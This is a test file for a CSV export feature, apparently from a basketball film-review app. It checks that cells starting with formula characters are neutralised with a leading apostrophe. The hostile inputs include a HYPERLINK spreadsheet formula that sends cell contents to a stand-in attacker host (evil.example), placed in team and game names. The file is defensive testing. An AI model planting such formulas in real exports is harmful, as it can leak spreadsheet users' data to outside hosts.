import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { openLibrary } from '../../main/library/database.js';
import { ensureTeam } from '../../main/library/repositories/teams.js';
import { toCsv } from '../../main/reports/csv.js';
import { writeReport } from '../../main/reports/index.js';
import { seedGame, seedPlay } from '../helpers/seed.js';
import { tempDir } from '../helpers/temp.js';

// A team or game named `=HYPERLINK(…)` was exported as is, and a spreadsheet ran it. Each file is
// read back with Python's csv module (an independent RFC 4180 reader), as a spreadsheet would get it.
// (Verified failing first: before, the cells came back as `=HYPERLINK(…)`, `+1+2`, `@SUM(A1)`.)

function readWithPython(file: string): string[][] {
  const script = 'import csv, json, sys\nwith open(sys.argv[1], newline="", encoding="utf-8") as f:\n    print(json.dumps(list(csv.reader(f))))';
  return JSON.parse(execFileSync('python3', ['-c', script, file], { encoding: 'utf8' })) as string[][];
}

describe('CSV exports and formula injection', () => {
  const dir = tempDir('filmroom-security-csv-');

  it('neutralise every cell that starts with = + - @ tab or CR, and keep numbers as numbers', () => {
    const file = path.join(dir, 'cells.csv');
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tcmd', '\r=1+2', '=1+2'];
    const numbers: (number | string)[] = [-3, -0.25, 1.5, 0, '-7', '+4', '-1.5e3', '12.500'];
    fs.writeFileSync(file, toCsv(['cell'], [...hostile, ...numbers, 'Plain name', 'Spurs - Lakers'].map((cell) => [cell])));
    const cells = readWithPython(file).slice(1).map((row) => row[0]!);
    expect(cells.slice(0, hostile.length)).toEqual(hostile.map((cell) => `'${cell}`));
    expect(cells.slice(hostile.length, hostile.length + numbers.length)).toEqual(['-3', '-0.25', '1.5', '0', '-7', '+4', '-1.5e3', '12.500']);
    for (const number of cells.slice(hostile.length, hostile.length + 7)) expect(Number.isFinite(Number(number)), number).toBe(true);
    expect(cells.slice(-2)).toEqual(['Plain name', 'Spurs - Lakers']);
  });

  it('neutralise hostile team and game names in a real report', async () => {
    const db = openLibrary(path.join(dir, 'lib.db'));
    const evilTeam = ensureTeam(db, '=HYPERLINK("http://evil.example","Hawks")');
    const game = seedGame(db, { season: '2025-26', name: '@SUM(1+1)', homeTeamId: evilTeam, awayTeamId: ensureTeam(db, '-Owls') });
    seedPlay(db, game, 5, 'Transition');
    seedPlay(db, game, 20, 'Cut');
    const out = path.join(dir, 'plays.csv');
    await writeReport(db, { kind: 'plays', out });
    db.close();
    const [header, ...rows] = readWithPython(out);
    const column = (name: string) => rows.map((row) => row[header!.indexOf(name)]!);
    expect(column('game')).toEqual(["'@SUM(1+1)", "'@SUM(1+1)"]);
    expect(column('home')).toEqual([`'=HYPERLINK("http://evil.example","Hawks")`, `'=HYPERLINK("http://evil.example","Hawks")`]);
    expect(column('away')).toEqual(["'-Owls", "'-Owls"]);
    // Times are still plain numbers.
    expect(column('start_s')).toEqual(['5.000', '20.000']);
  });
});
